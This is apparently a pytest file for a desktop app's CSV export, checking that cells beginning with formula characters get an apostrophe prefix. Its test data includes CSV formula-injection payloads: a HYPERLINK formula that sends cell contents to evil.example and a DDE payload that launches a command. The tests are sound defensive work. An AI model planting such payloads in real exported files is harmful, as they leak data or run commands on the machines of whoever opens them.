"""CSV files we write cannot carry formulas (issue 16, item 9); XLSX was already safe."""
from __future__ import annotations

import csv
import io

from desktop_app.cli import main as hamroh
from desktop_app.domain.csv_safety import safe_cell
from desktop_app.store.security import accounts as security
from desktop_app.store.security import keys

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0",
           "-Rahmonov", "@Karimov", "+Saidov", "\t=1+1", "\uff1dSUM(A1)"]


def test_formula_starts_get_an_apostrophe_and_plain_values_stay():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ("Rahmonov", "Раҳмонов", "O\u02bbgʻiloy", "-12", "+3.5", "2024-01-01", 42,
                  None, "", "a=b"):
        assert safe_cell(value) == value


def test_person_list_csv_keeps_names_readable_and_inert(db_path, tmp_path, monkeypatch, capsys):
    from desktop_app.store.people.repositories import PersonRepository
    session = security.login(db_path, "admin", "test-password-1")
    people = PersonRepository(session)
    for name in HOSTILE:
        people.create(dict(family_name=name, given_name="Test"))
    session.conn.close()
    keys.forget_key(db_path)
    monkeypatch.setenv("HAMROH_PASSWORD", "test-password-1")
    out = tmp_path / "people.csv"
    assert hamroh(["person-list", "--db", str(db_path), "--user", "admin", "--format", "csv",
                   "--out", str(out)]) == 0, capsys.readouterr().err
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))
             for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")
                and not c.lstrip("+-").replace(".", "").isdigit()]
    for name in HOSTILE[:5]:          # stored as typed (the others are trimmed on save)
        assert "'" + name in cells


def test_schedule_csv_numbers_stay_numbers(capsys):
    assert hamroh(["loan", "schedule", "--amount", "1000", "--currency", "TJS", "--rate", "24",
                   "--term", "3", "--frequency", "monthly", "--method", "flat",
                   "--start", "2026-01-01", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][0] == "1" and "'" not in "".join(c for r in rows for c in r)
